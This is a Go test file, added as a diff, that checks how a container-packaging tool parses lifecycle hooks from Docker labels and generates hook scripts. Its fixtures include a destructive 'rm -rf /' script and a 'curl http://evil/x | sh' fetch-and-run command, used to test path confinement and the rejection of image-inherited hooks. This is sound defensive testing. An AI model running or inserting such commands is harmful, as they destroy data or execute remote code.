@@ -0,0 +1,129 @@
+package fpkgen
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// TestParseHooks tests inline and file hooks, unknown names and confined file paths
+func TestParseHooks(t *testing.T) {
+	base := t.TempDir()
+	outside := t.TempDir()
+	os.MkdirAll(filepath.Join(base, "hooks"), 0755)
+	os.WriteFile(filepath.Join(base, "hooks", "backup.sh"), []byte("pg_dump > backup.sql\n"), 0644)
+	os.WriteFile(filepath.Join(outside, "evil.sh"), []byte("rm -rf /\n"), 0644)
+	os.WriteFile(filepath.Join(base, "huge.sh"), make([]byte, maxHookScriptSize+1), 0644)
+
+	hooks := parseHooks(map[string]string{
+		"watchcow.hook.uninstall_init":   "file://./hooks/backup.sh",
+		"watchcow.hook.install_callback": "echo installed",
+		"watchcow.hook.upgrade_init":     "file://" + filepath.Join(outside, "evil.sh"),
+		"watchcow.hook.config_init":      "file://huge.sh",
+		"watchcow.hook.config_callback":  "  ",
+		"watchcow.hook.pre_start":        "echo unknown",
+		"watchcow.enable":                "true",
+	}, map[string]string{
+		"watchcow.enable": "true",
+	}, base, newFileRoots([]string{base}))
+
+	want := map[string]string{
+		"uninstall_init":   "pg_dump > backup.sql\n",
+		"install_callback": "echo installed",
+	}
+	if len(hooks) != len(want) {
+		t.Errorf("parseHooks() = %v, want %v", hooks, want)
+	}
+	for name, script := range want {
+		if hooks[name] != script {
+			t.Errorf("hook %s = %q, want %q", name, hooks[name], script)
+		}
+	}
+}
+
+// TestParseHooks_ImageLabels tests that hooks inherited from the image labels are ignored
+func TestParseHooks_ImageLabels(t *testing.T) {
+	imageLabels := map[string]string{
+		"watchcow.enable":                "true",
+		"watchcow.hook.install_callback": "curl http://evil/x | sh",
+		"watchcow.hook.uninstall_init":   "echo image",
+	}
+	// Docker merges the image labels into the container labels
+	labels := map[string]string{
+		"watchcow.enable":                "true",
+		"watchcow.hook.install_callback": "curl http://evil/x | sh",
+		"watchcow.hook.uninstall_init":   "echo container",
+	}
+
+	hooks := parseHooks(labels, imageLabels, t.TempDir(), newFileRoots(nil))
+	if want := map[string]string{"uninstall_init": "echo container"}; !reflect.DeepEqual(hooks, want) {
+		t.Errorf("parseHooks() = %v, want %v", hooks, want)
+	}
+}
+
+// TestGenerateFromConfig_Hooks tests that configured hooks run with the WatchCow variables
+func TestGenerateFromConfig_Hooks(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("bash not available")
+	}
+	engine, err := NewTemplateEngine()
+	if err != nil {
+		t.Fatalf("NewTemplateEngine() error = %v", err)
+	}
+
+	appDir := filepath.Join(t.TempDir(), "app")
+	out := filepath.Join(t.TempDir(), "out")
+	config := &AppConfig{
+		AppName:       "watchcow.db",
+		DisplayName:   "DB",
+		ContainerID:   "abc123",
+		ContainerName: "db's container",
+		Labels: map[string]string{
+			"com.docker.compose.project":             "stack",
+			"com.docker.compose.project.working_dir": "/vol1/stack",
+		},
+		Hooks: map[string]string{
+			"uninstall_init": `echo "$WATCHCOW_HOOK|$WATCHCOW_CONTAINER_NAME|$WATCHCOW_COMPOSE_PROJECT|$WATCHCOW_COMPOSE_DIR|$TRIM_APPNAME|$1" > "$OUT"`,
+			"upgrade_init":   "#!/bin/sh\necho sh > \"$OUT\"\nexit 3\n",
+		},
+	}
+	if err := (&Generator{templateEngine: engine}).GenerateFromConfig(config, appDir); err != nil {
+		t.Fatalf("GenerateFromConfig() error = %v", err)
+	}
+
+	run := func(name string) (string, int) {
+		t.Helper()
+		cmd := exec.Command(bash, filepath.Join(appDir, "cmd", name), "arg")
+		cmd.Env = append(os.Environ(), "OUT="+out, "TRIM_APPNAME=watchcow.db")
+		err := cmd.Run()
+		code := 0
+		if exitErr, ok := err.(*exec.ExitError); ok {
+			code = exitErr.ExitCode()
+		} else if err != nil {
+			t.Fatalf("running cmd/%s: %v", name, err)
+		}
+		data, _ := os.ReadFile(out)
+		return strings.TrimSpace(string(data)), code
+	}
+
+	if got, code := run("uninstall_init"); code != 0 || got != "uninstall_init|db's container|stack|/vol1/stack|watchcow.db|arg" {
+		t.Errorf("uninstall_init wrote %q, exit code %d", got, code)
+	}
+	// Scripts with a shebang run with their own interpreter and keep their exit code
+	if got, code := run("upgrade_init"); code != 3 || got != "sh" {
+		t.Errorf("upgrade_init wrote %q, exit code %d", got, code)
+	}
+
+	// Hooks that are not configured stay empty
+	empty, err := os.ReadFile(filepath.Join(appDir, "cmd", "install_init"))
+	if err != nil || strings.Contains(string(empty), "hooks/") {
+		t.Errorf("install_init = %q, %v", empty, err)
+	}
+	if _, err := os.Stat(filepath.Join(appDir, "cmd", "hooks", "install_init")); !os.IsNotExist(err) {
+		t.Error("unconfigured hook should not be written")
+	}
+}